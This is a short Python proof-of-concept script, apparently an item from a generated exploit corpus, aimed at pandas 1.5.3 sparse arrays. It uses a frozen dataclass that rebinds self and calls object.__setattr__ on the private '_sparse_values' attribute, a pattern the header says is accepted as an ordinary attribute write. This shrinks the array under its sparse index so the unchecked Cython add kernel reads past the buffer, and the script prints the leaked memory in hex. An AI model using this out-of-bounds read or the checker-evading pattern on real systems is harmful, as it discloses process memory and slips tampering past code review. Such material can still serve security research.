# source: dataclasses docs (frozen dataclass idiom); pandas 1.5.3 sparse/array.py _sparse_array_op -> splib.sparse_add_int64 (Cython, boundscheck off)
# family: literal-name object.__setattr__(self, "_private", v) accepted as "self._x = v" while self is rebound (self = self.target)
# goal: shrink a SparseArray's values under its 40-point sparse index; the sparse add kernel reads 39 words past the 1-element array (out-of-bounds memory read)
import dataclasses
import numpy as np
import pandas as pd


@dataclasses.dataclass(frozen=True)
class Spec:
    target: object
    size: int = 0

    def poke(self, v):
        self = self.target
        object.__setattr__(self, "_sparse_values", v)
        return v


sp = pd.arrays.SparseArray(np.array([0] + [5] * 40, dtype=np.int64))
other = pd.arrays.SparseArray(np.array([1] + [0] * 40, dtype=np.int64))
Spec(sp).poke(np.array([5], dtype=np.int64))
res = np.asarray(sp + other)
print("values array holds one 5; the sum reads past it:")
print([hex(int(x) & 0xFFFFFFFFFFFFFFFF) for x in res])
